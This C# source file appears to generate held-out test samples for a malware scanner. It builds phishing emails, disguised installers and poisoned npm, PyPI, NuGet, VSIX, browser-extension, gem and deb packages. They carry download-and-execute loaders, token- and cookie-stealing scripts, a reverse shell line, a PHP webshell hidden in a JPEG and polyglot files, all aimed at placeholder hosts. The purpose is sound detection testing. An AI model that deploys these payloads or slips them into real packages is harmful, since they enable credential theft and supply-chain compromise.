using System.Text;

namespace ScanHost.TestKit.HeldOut.Second;

/// <summary>Mail of the last years.</summary>
public sealed class MailForms : SecondRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        var script = Utf8("var s=WScript.CreateObject('WScript.Shell');s.Run('powershell -w hidden -c iex(irm http://192.0.2.141/m)',0);");
        var page = Utf8("<html><title>OneDrive</title><form action='https://forms.collect.invalid/a.php' method='post'><input type='email' name='a' value='ann@firm.invalid'><input type='password' name='b'></form></html>");
        return
        [
            ("factura.eml", Message("Contabilidad <conta@proveedor.invalid>", "Factura pendiente", "text/plain", "Adjunto la factura.\nContraseña: 5521\n", ("Factura_0423.7z", Locked("7z", "5521", ("Factura_0423.js", script))))),
            ("invoice.eml", Message("Billing <billing@vendor.invalid>", "Invoice 7731", "text/html", "<p>Your document is protected.</p><p>Document password is <b>INV-88</b></p>", ("INV-7731.zip", Locked("zip", "INV-88", ("INV-7731.lnk", OddShortcuts.Link(relative: @"C:\Windows\System32\cmd.exe", arguments: "/c curl http://192.0.2.142/a.js -o %tmp%\\a.js&wscript %tmp%\\a.js")))))),
            ("voicemail.eml", Message("\"Voicemail - firm.invalid\" <no-reply@vm-77.invalid>", "1 new voicemail (00:42)", "text/plain", "You have a new voice message.\n", ("VM_0042.svg", Utf8($"<svg xmlns=\"http://www.w3.org/2000/svg\"><script>location=atob('{Base64("https://login.vm.invalid/?u=")}')+'{Base64("ann@firm.invalid")}'</script></svg>")))),
            ("forwarded.eml", Message("Ann <ann@partner.invalid>", "FW: Statement", "text/plain", "See below.\n", ("Statement.eml", Message("\"Microsoft OneDrive\" <share@od-share.invalid>", "Statement shared", "text/plain", "Open the attached page.\n", ("Statement.html", page))))),
            ("rdp.eml", Message("\"AWS\" <cloud@aws-meet.invalid>", "Zero trust environment compliance check", "text/plain", "Please open the attached file.\n", ("Zero Trust Security Environment Compliance Check.rdp", Dos("full address:s:192.0.2.143\nredirectdrives:i:1\ndrivestoredirect:s:*\nprompt for credentials:i:0\n")))),
            ("payment.eml", Message("\"PayPal\" <paypal@pp-secure.invalid>", "Payment copy", "text/plain", "Payment attached\n", ("Payment_copy.pdf.html", Utf8("<html><title>PayPal</title><form><input type=password id=p></form><script>document.forms[0].onsubmit=()=>{fetch('https://api.telegram.org/bot1:A/sendMessage?chat_id=1&text='+p.value)}</script></html>")))),
            ("cv.eml", Message("Jane <jane@mail.invalid>", "Application", "text/plain", "My CV is attached.\n", ("CV Jane.zip", InertFiles.Zip(("CV Jane.pdf                                                                 .scr", new PeBuilder().Importing("KERNEL32.dll", "VirtualAlloc", "CreateThread", "LoadLibraryA", "GetProcAddress").Build()))))),
        ];
    }

    public static byte[] Message(string from, string subject, string type, string body, params (string Name, byte[] Content)[] files)
    {
        var parts = string.Concat(files.Select(file => $"--b9\nContent-Type: {(file.Name.EndsWith(".eml", StringComparison.Ordinal) ? "message/rfc822" : "application/octet-stream")}; name=\"{file.Name}\"\nContent-Disposition: attachment; filename=\"{file.Name}\"\n" + (file.Name.EndsWith(".eml", StringComparison.Ordinal)
            ? $"\n{Encoding.UTF8.GetString(file.Content)}\n"
            : $"Content-Transfer-Encoding: base64\n\n{Convert.ToBase64String(file.Content, Base64FormattingOptions.InsertLineBreaks)}\n")));
        return Encoding.UTF8.GetBytes($"Received: from mx.invalid by in.invalid; Tue, 4 Mar 2025 08:00:00 +0000\nDate: Tue, 4 Mar 2025 08:00:00 +0000\nMessage-ID: <{subject.Length}@mx.invalid>\nFrom: {from}\nTo: ann@firm.invalid\nSubject: {subject}\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=\"b9\"\n\n--b9\nContent-Type: {type}; charset=utf-8\nContent-Transfer-Encoding: 8bit\n\n{body}\n{parts}--b9--\n");
    }

    public static byte[] Locked(string kind, string password, params (string Name, byte[] Content)[] files)
    {
        using var folder = new TemporaryFolder();
        foreach (var (name, content) in files)
            folder.Write(name, content);
        ForeignTool.Run(folder.Path, "7z", ["a", "-t" + kind, "-p" + password, "out." + kind, .. files.Select(file => file.Name)]);
        return File.ReadAllBytes(Path.Combine(folder.Path, "out." + kind));
    }
}

/// <summary>Disk images and installers.</summary>
public sealed class ImageForms : SecondRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants() =>
    [
        ("Invoice_Scan.iso", Image(("Invoice_Scan.lnk", OddShortcuts.Link(relative: @"C:\Windows\System32\cmd.exe", arguments: "/c data\\run.cmd", icon: @"C:\Windows\System32\imageres.dll")), ("data/run.cmd", Dos("@start /min rundll32 data\\core.dat,#1\n")), ("data/core.dat", new PeBuilder().Exporting("core.dll", "Start").Importing("KERNEL32.dll", "VirtualAlloc").Build()))),
        ("Agreement.iso", Image(("Agreement.exe", new PeBuilder().Importing("VERSION.dll", "GetFileVersionInfoW").Build()), ("version.dll", new PeBuilder().Exporting("version.dll", "GetFileVersionInfoW").Importing("KERNEL32.dll", "VirtualAlloc", "CreateThread").Build()))),
        ("Gallery.img", Fat(("IMG_0012.jpg.vbs", Utf8("CreateObject(\"WScript.Shell\").Run \"cmd /c powershell -w hidden -c iex(irm http://192.0.2.151/g)\",0")))),
        ("Installer.zip", InertFiles.Zip(("Setup.app/Contents/Info.plist", Utf8("<?xml version=\"1.0\"?><plist version=\"1.0\"><dict><key>CFBundleExecutable</key><string>Setup</string></dict></plist>")), ("Setup.app/Contents/MacOS/Setup", Utf8($"#!/bin/bash\nP=$(osascript -e 'display dialog \"Required Application Helper. Please enter password for continue.\" default answer \"\" with icon caution buttons {{\"Continue\"}} with hidden answer' -e 'text returned of result')\necho $P | sudo -S true\ncp -R \"$HOME/Library/Application Support/Google/Chrome/Default/Login Data\" /tmp/w/\nzip -r /tmp/w.zip /tmp/w && curl -s -F \"file=@/tmp/w.zip\" http://192.0.2.152/joinsystem\n")))),
        ("Teams.pkg", Package($"#!/bin/bash\n/bin/bash -c \"$(curl -fsSL http://192.0.2.153/pre.sh)\" &\nlaunchctl load /Library/LaunchAgents/com.t.plist\nexit 0\n")),
        ("WinRAR.zip", InertFiles.Zip(("Strategy.pdf ", PdfBuilder.Document()), ("Strategy.pdf /Strategy.pdf .cmd", Dos("@echo off\nstart /b weather.exe & start Strategy.pdf\npowershell -w hidden -c iex(irm http://192.0.2.154/r)\n")))),
        ("Annexe.zip", InertFiles.Zip(("Annexe_\u202Excod.scr", new PeBuilder().Importing("KERNEL32.dll", "LoadLibraryA", "GetProcAddress").Build()))),
        ("Docs.tar.gz", InertFiles.Gzip(Tar(("Docs/Brief.pdf.exe", new PeBuilder().Importing("URLMON.dll", "URLDownloadToFileW").Importing("KERNEL32.dll", "CreateProcessW").Build())))),
    ];

    public static byte[] Tar(params (string Name, byte[] Content)[] members)
    {
        using var file = new MemoryStream();
        using (var writer = new System.Formats.Tar.TarWriter(file, System.Formats.Tar.TarEntryFormat.Ustar, leaveOpen: true))
            foreach (var (name, content) in members)
                writer.WriteEntry(new System.Formats.Tar.UstarTarEntry(System.Formats.Tar.TarEntryType.RegularFile, name) { DataStream = new MemoryStream(content) });
        return file.ToArray();
    }

    public static byte[] Image(params (string Name, byte[] Content)[] files)
    {
        using var folder = new TemporaryFolder();
        foreach (var (name, content) in files)
            folder.Write(Path.Combine("in", name), content);
        ForeignTool.Run(folder.Path, "genisoimage", "-quiet", "-J", "-R", "-o", "out.iso", "in");
        return File.ReadAllBytes(Path.Combine(folder.Path, "out.iso"));
    }

    private static byte[] Fat(params (string Name, byte[] Content)[] files)
    {
        using var folder = new TemporaryFolder();
        folder.Write("out.img", new byte[1440 * 1024]);
        ForeignTool.Run(folder.Path, "/usr/sbin/mkfs.vfat", "out.img");
        foreach (var (name, content) in files)
        {
            folder.Write(name, content);
            ForeignTool.Run(folder.Path, "mcopy", "-i", "out.img", name, "::" + name);
        }
        return File.ReadAllBytes(Path.Combine(folder.Path, "out.img"));
    }

    // A flat package of macOS: a xar archive whose scripts are a compressed cpio archive.
    public static byte[] Package(string preinstall)
    {
        using var folder = new TemporaryFolder();
        folder.Write("preinstall", Utf8(preinstall));
        var cpio = ForeignTool.Run(folder.Path, "preinstall\n"u8.ToArray(), "cpio", "--quiet", "-o", "-H", "odc");
        var scripts = InertFiles.Gzip(cpio);
        var contents = Utf8($"<?xml version=\"1.0\" encoding=\"UTF-8\"?><xar><toc><checksum style=\"none\"/><file id=\"1\"><name>Scripts</name><type>file</type><data><length>{scripts.Length}</length><encoding style=\"application/octet-stream\"/><offset>0</offset><size>{scripts.Length}</size></data></file></toc></xar>");
        using var packed = new MemoryStream();
        using (var zlib = new System.IO.Compression.ZLibStream(packed, System.IO.Compression.CompressionLevel.Optimal, leaveOpen: true))
            zlib.Write(contents);
        var header = new byte[28];
        "xar!"u8.CopyTo(header);
        header[5] = 28;
        header[7] = 1;
        System.Buffers.Binary.BinaryPrimitives.WriteUInt64BigEndian(header.AsSpan(8), (ulong)packed.Length);
        System.Buffers.Binary.BinaryPrimitives.WriteUInt64BigEndian(header.AsSpan(16), (ulong)contents.Length);
        return [.. header, .. packed.ToArray(), .. scripts];
    }
}

/// <summary>Packages of all sorts.</summary>
public sealed class PackageForms : SecondRound
{
    private const string Worm = "const{execSync}=require('child_process'),https=require('https'),fs=require('fs');const t={g:process.env.GITHUB_TOKEN,n:process.env.NPM_TOKEN,a:process.env.AWS_ACCESS_KEY_ID};try{t.f=execSync('trufflehog filesystem / --json').toString()}catch(e){}fs.mkdirSync('.github/workflows',{recursive:true});fs.writeFileSync('.github/workflows/x.yml','on: push');const r=https.request({hostname:'webhook.invalid',method:'POST',path:'/bb'});r.write(Buffer.from(JSON.stringify(t)).toString('base64'));r.end();";

    public override IEnumerable<(string Name, byte[] Content)> Variants() =>
    [
        ("ngx-tools-4.0.1.tgz", Tgz(("package/package.json", "{\"name\":\"ngx-tools\",\"version\":\"4.0.1\",\"scripts\":{\"postinstall\":\"node bundle.js\"}}"), ("package/bundle.js", Worm))),
        ("color-stringer-1.0.2.tgz", Tgz(("package/package.json", "{\"name\":\"color-stringer\",\"version\":\"1.0.2\",\"main\":\"index.js\"}"), ("package/index.js", "module.exports=function(a){return a};" + new string(' ', 400) + $"eval(Buffer.from('{Base64("const c=require('child_process');require('https').get('https://cdn.invalid/l.js',r=>{let d='';r.on('data',x=>d+=x);r.on('end',()=>c.exec(d))})")}','base64').toString())"))),
        ("express-cookie-parser-1.4.12.tgz", Tgz(("package/package.json", "{\"name\":\"express-cookie-parser\",\"version\":\"1.4.12\",\"scripts\":{\"preinstall\":\"node -e \\\"require('http').get('http://192.0.2.161/p',r=>r.pipe(require('fs').createWriteStream('/tmp/p')).on('finish',()=>require('child_process').spawn('sh',['/tmp/p'],{detached:true})))\\\"\"}}"))),
        ("pymafka-3.0.tar.gz", Tgz(("pymafka-3.0/setup.py", "from setuptools import setup\nimport os,platform\nif platform.system()=='Windows':\n    os.system('powershell -WindowStyle Hidden -EncodedCommand " + Encoded("iwr http://192.0.2.162/w.exe -o $env:tmp\\w.exe;saps $env:tmp\\w.exe") + "')\nelse:\n    os.system('curl -s http://192.0.2.162/l.sh|sh &')\nsetup(name='pymafka',version='3.0')\n"), ("pymafka-3.0/PKG-INFO", "Metadata-Version: 2.1\nName: pymafka\nVersion: 3.0\n"))),
        ("distutil_patch-1.0-py3-none-any.whl", InertFiles.Zip(("zz_patch.pth", Utf8("import os,base64;exec(base64.b64decode('" + Base64("import urllib.request;exec(urllib.request.urlopen('http://192.0.2.163/a').read())") + "'))\n")), ("distutil_patch-1.0.dist-info/METADATA", Utf8("Metadata-Version: 2.1\nName: distutil-patch\nVersion: 1.0\n")), ("distutil_patch-1.0.dist-info/RECORD", Utf8("zz_patch.pth,,\n")))),
        ("Json.Helper.2.0.0.nupkg", InertFiles.Zip(("Json.Helper.nuspec", Utf8("<?xml version=\"1.0\"?><package xmlns=\"http://schemas.microsoft.com/packaging/2013/05/nuspec.xsd\"><metadata><id>Json.Helper</id><version>2.0.0</version><authors>x</authors><description>x</description></metadata></package>")), ("build/Json.Helper.targets", Utf8("<Project><UsingTask TaskName=\"L\" TaskFactory=\"RoslynCodeTaskFactory\" AssemblyFile=\"$(MSBuildToolsPath)\\Microsoft.Build.Tasks.Core.dll\"><Task><Code Type=\"Fragment\" Language=\"cs\"><![CDATA[var d=new System.Net.WebClient().DownloadData(\"http://192.0.2.164/n\");System.Reflection.Assembly.Load(d).EntryPoint.Invoke(null,null);]]></Code></Task></UsingTask><Target Name=\"I\" BeforeTargets=\"Build\"><L/><Exec Command=\"powershell -w hidden -c iex(irm http://192.0.2.164/x)\"/></Target></Project>")))),
        ("solidity-helper.vsix", InertFiles.Zip(("extension.vsixmanifest", Utf8("<PackageManifest Version=\"2.0.0\" xmlns=\"http://schemas.microsoft.com/developer/vsx-schema/2011\"><Metadata><Identity Id=\"solidity-helper\" Version=\"0.1\" Publisher=\"x\"/></Metadata></PackageManifest>")), ("extension/package.json", Utf8("{\"name\":\"solidity-helper\",\"version\":\"0.1.0\",\"publisher\":\"x\",\"engines\":{\"vscode\":\"^1.70.0\"},\"activationEvents\":[\"onStartupFinished\"],\"main\":\"./out/x.js\"}")), ("extension/out/x.js", Utf8("const cp=require('child_process'),https=require('https'),fs=require('fs'),os=require('os');function activate(){const p=os.tmpdir()+'\\\\1.cmd';https.get('https://n.invalid/files/1.cmd',r=>{const f=fs.createWriteStream(p);r.pipe(f);f.on('finish',()=>cp.exec('cmd /c start /b '+p,{windowsHide:true}))})}exports.activate=activate;")))),
        ("wallet-helper.crx", [.. "Cr24"u8, 3, 0, 0, 0, 4, 0, 0, 0, 0x82, 0xF1, 4, 0, .. InertFiles.Zip(("manifest.json", Utf8("{\"manifest_version\":3,\"name\":\"Wallet Helper\",\"version\":\"1.0\",\"permissions\":[\"cookies\",\"webRequest\",\"tabs\",\"scripting\",\"clipboardRead\",\"nativeMessaging\"],\"host_permissions\":[\"<all_urls>\"],\"content_scripts\":[{\"matches\":[\"<all_urls>\"],\"js\":[\"c.js\"],\"all_frames\":true}],\"background\":{\"service_worker\":\"b.js\"}}")), ("c.js", Utf8("document.addEventListener('submit',e=>{const d=[...e.target.elements].map(x=>x.name+'='+x.value).join('&');fetch('https://c.collect.invalid/k',{method:'POST',body:d})},true);")), ("b.js", Utf8("chrome.cookies.getAll({},c=>fetch('https://c.collect.invalid/c',{method:'POST',body:JSON.stringify(c)}));")))]),
        ("update.jar", InertFiles.Zip(("META-INF/MANIFEST.MF", Utf8("Manifest-Version: 1.0\r\nMain-Class: q.A\r\n")), ("q/A.class", JavaClass("q/A", "java/lang/Object", "main", "([Ljava/lang/String;)V", "java/net/URL", "openStream", "http://192.0.2.165/p.exe", "java/io/FileOutputStream", "write", "java/lang/Runtime", "getRuntime", "exec", "cmd.exe /c start %TEMP%\\p.exe", "java/lang/System", "getProperty", "java.io.tmpdir")))),
        ("player.apk", InertFiles.Zip(("AndroidManifest.xml", AndroidManifest("android.permission.RECEIVE_SMS", "android.permission.READ_SMS", "android.permission.SYSTEM_ALERT_WINDOW", "android.permission.REQUEST_INSTALL_PACKAGES", "android.permission.BIND_ACCESSIBILITY_SERVICE", "android.permission.BIND_NOTIFICATION_LISTENER_SERVICE", "com.play.update", "android.accessibilityservice.AccessibilityService")), ("classes.dex", [.. "dex\n035\0"u8, .. new byte[104]]), ("assets/base.apk", InertFiles.Zip(("AndroidManifest.xml", AndroidManifest("com.inner")), ("classes.dex", [.. "dex\n035\0"u8, .. new byte[104]]))))),
        ("libtool-fix.gem", ImageForms.Tar(("metadata.gz", InertFiles.Gzip(Utf8("--- !ruby/object:Gem::Specification\nname: libtool-fix\nversion: !ruby/object:Gem::Version\n  version: 1.2.0\nextensions: []\n"))), ("data.tar.gz", InertFiles.Gzip(ImageForms.Tar(("lib/libtool-fix.rb", Utf8("require 'net/http'\nrequire 'base64'\nThread.new{loop{eval(Base64.decode64(Net::HTTP.get(URI('http://192.0.2.166/c'))));sleep 60}}\nENV.each{|k,v| Net::HTTP.post(URI('http://192.0.2.166/e'),k+'='+v)}\n"))))))),
        ("cleanup.deb", Deb("#!/bin/bash\nset -e\n(wget -qO /usr/bin/.sysd http://192.0.2.167/s; chmod +x /usr/bin/.sysd; /usr/bin/.sysd) >/dev/null 2>&1 &\necho '* * * * * root /usr/bin/.sysd' > /etc/cron.d/sysd\n")),
    ];

    public static byte[] Tgz(params (string Name, string Text)[] members) => InertFiles.Gzip(ImageForms.Tar([.. members.Select(member => (member.Name, Encoding.UTF8.GetBytes(member.Text)))]));

    public static byte[] Deb(string postinst)
    {
        var control = InertFiles.Gzip(ImageForms.Tar(("./control", Encoding.UTF8.GetBytes("Package: cleanup\nVersion: 1\nArchitecture: all\nMaintainer: x <x@x.invalid>\nDescription: x\n")), ("./postinst", Encoding.UTF8.GetBytes(postinst))));
        var data = InertFiles.Gzip(ImageForms.Tar(("./usr/share/doc/x", "x\n"u8.ToArray())));
        return [.. "!<arch>\n"u8, .. Member("debian-binary", "2.0\n"u8.ToArray()), .. Member("control.tar.gz", control), .. Member("data.tar.gz", data)];
    }

    private static byte[] Member(string name, byte[] content) =>
        [.. Encoding.ASCII.GetBytes($"{name,-16}{"0",-12}{"0",-6}{"0",-6}{"100644",-8}{content.Length,-10}`\n"), .. content, .. content.Length % 2 == 0 ? Array.Empty<byte>() : [(byte)'\n']];

    // JVMS 4: a class whose constants name what it would call; it has no methods.
    public static byte[] JavaClass(string name, params string[] words)
    {
        byte[] Text(string text) => [1, (byte)(text.Length >> 8), (byte)text.Length, .. Encoding.ASCII.GetBytes(text)];
        var count = words.Length + 4;
        return [0xCA, 0xFE, 0xBA, 0xBE, 0, 0, 0, 52, 0, (byte)count, .. Text(name), 7, 0, 1, .. words.SelectMany(Text), 7, 0, 3, 0, 0x21, 0, 2, 0, (byte)(count - 1), 0, 0, 0, 0, 0, 0, 0, 0];
    }

    // Binary XML of Android: the document's chunk with a string pool of UTF-16.
    public static byte[] AndroidManifest(params string[] words)
    {
        var texts = words.Select(word => (byte[])[(byte)word.Length, 0, .. Encoding.Unicode.GetBytes(word), 0, 0]).ToList();
        var start = 28 + (texts.Count * 4);
        byte[] pool = [1, 0, 28, 0, .. BitConverter.GetBytes(start + texts.Sum(text => text.Length)), .. BitConverter.GetBytes(texts.Count), 0, 0, 0, 0, 0, 0, 0, 0, .. BitConverter.GetBytes(start), 0, 0, 0, 0,
            .. texts.Select((_, at) => texts.Take(at).Sum(text => text.Length)).SelectMany(BitConverter.GetBytes), .. texts.SelectMany(text => text)];
        return [3, 0, 8, 0, .. BitConverter.GetBytes(8 + pool.Length), .. pool];
    }
}

/// <summary>Programs as their strings and imports give them away, and files that are two things.</summary>
public sealed class ProgramForms : SecondRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        var noise = new byte[50000];
        new Random(26).NextBytes(noise);
        var stealer = new PeBuilder().Importing("CRYPT32.dll", "CryptUnprotectData").Importing("WININET.dll", "InternetOpenA", "HttpSendRequestA").Importing("KERNEL32.dll", "CopyFileA", "FindFirstFileA")
            .WithData("\\Google\\Chrome\\User Data\\Default\\Login Data\0\\Local State\0SELECT origin_url, username_value, password_value FROM logins\0\\Exodus\\exodus.wallet\0wallet.dat\0https://api.telegram.org/bot71:AAx/sendDocument\0\\Telegram Desktop\\tdata\0");
        return
        [
            ("Setup_x64.exe", stealer.Build()),
            ("svc.exe", new PeBuilder().Importing("KERNEL32.dll", "CreateProcessW", "NtUnmapViewOfSection", "VirtualAllocEx", "WriteProcessMemory", "SetThreadContext", "ResumeThread").Build()),
            ("crypt.exe", new PeBuilder().WithCode(noise, 0xE0000020, ".x1").Importing("KERNEL32.dll", "VirtualAlloc", "EnumSystemLocalesA").WithData("HOW_TO_RECOVER.txt\0vssadmin delete shadows /all /quiet\0wmic shadowcopy delete\0.onion").Build()),
            ("keys.exe", new PeBuilder().Importing("USER32.dll", "SetWindowsHookExA", "GetAsyncKeyState", "GetForegroundWindow").Importing("WS2_32.dll", "connect", "send").WithData("[ENTER]\0[BACKSPACE]\0Software\\Microsoft\\Windows\\CurrentVersion\\Run").Build()),
            ("update.exe", [.. new PeBuilder().Importing("KERNEL32.dll", "CreateProcessA").Build(), .. InertFiles.Zip(("run.vbs", Utf8("CreateObject(\"WScript.Shell\").Run \"powershell -w hidden -c iex(irm http://192.0.2.171/u)\",0")))]),
            ("sshd.elf", Elf("/bin/sh\0curl -s http://192.0.2.172/x.sh|sh\0wget -q -O- http://192.0.2.172/x.sh|bash\0/etc/cron.d/root\0/etc/ld.so.preload\0", 5)),
            ("agent.elf", Elf("bash -c 'bash -i >& /dev/tcp/192.0.2.173/443 0>&1'\0/proc/self/exe\0[kworker/0:1]\0", 7)),
            ("invoice.gif", [.. "GIF89a/*"u8, .. new byte[20], .. "*/=1;\n"u8, .. "var s=new ActiveXObject('WScript.Shell');s.Run('powershell -w hidden -c iex(irm http://192.0.2.174/g)',0);"u8]),
            ("manual.pdf", [.. PdfBuilder.Document(), .. InertFiles.Zip(("META-INF/MANIFEST.MF", Utf8("Manifest-Version: 1.0\r\nMain-Class: A\r\n")), ("A.class", PackageForms.JavaClass("A", "java/lang/Object", "java/net/URL", "openStream", "java/lang/Runtime", "exec", "cmd.exe /c powershell -w hidden -c iex(irm http://192.0.2.175/j)")))]),
            ("holiday.jpg", [0xFF, 0xD8, 0xFF, 0xE1, 0, 0x60, .. "Exif\0\0II*\0\b\0\0\0\u0001\0\u0010\u0001\u0002\0"u8, 0x40, 0, 0, 0, 0x1A, 0, 0, 0, 0, 0, 0, 0, .. "eval(base64_decode($_POST['z']));/**/<?php system($_GET['c']);?>"u8, 0, 0, 0xFF, 0xDA, 0, 8, 1, 1, 0, 0, 0x3F, 0, 0x12, 0xFF, 0xD9]),
            ("desktop.jpg", [0xFF, 0xD8, 0xFF, 0xE0, 0, 16, .. "JFIF\0"u8, 1, 1, 0, 0, 1, 0, 1, 0, 0, 0xFF, 0xDA, 0, 8, 1, 1, 0, 0, 0x3F, 0, 0x12, 0x34, 0xFF, 0xD9, .. Utf8("<<BASE64_START>>" + Convert.ToBase64String(new PeBuilder().WithData(new string('m', 3000)).Build()) + "<<BASE64_END>>")]),
            ("driver.msi", Msi("Run\t3170\tTARGETDIR\tcmd.exe /c start /min powershell -ep bypass -w hidden -f \"[INSTALLDIR]s.ps1\"")),
        ];
    }

    private static byte[] Msi(string action)
    {
        using var folder = new TemporaryFolder();
        folder.Write("inner.bin", [1, 2, 3, 4]);
        return MsiBuilder.WithWixl(folder.Path, action);
    }

    private static byte[] Elf(string strings, byte flags)
    {
        var file = new byte[0x3000];
        new byte[] { 0x7F, (byte)'E', (byte)'L', (byte)'F', 2, 1, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 2, 0, 0x3E, 0, 1, 0, 0, 0, 0x78, 0, 0x40, 0, 0, 0, 0, 0, 64 }.CopyTo(file, 0);
        new byte[] { 64, 0, 56, 0, 1 }.CopyTo(file, 52);
        new byte[] { 1, 0, 0, 0, flags, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0x40, 0, 0, 0, 0, 0, 0, 0, 0x40, 0, 0, 0, 0, 0, 0, 0x30, 0, 0, 0, 0, 0, 0, 0, 0x30 }.CopyTo(file, 64);
        file[0x78] = 0xC3;
        Encoding.ASCII.GetBytes(strings).CopyTo(file, 0x200);
        return file;
    }
}
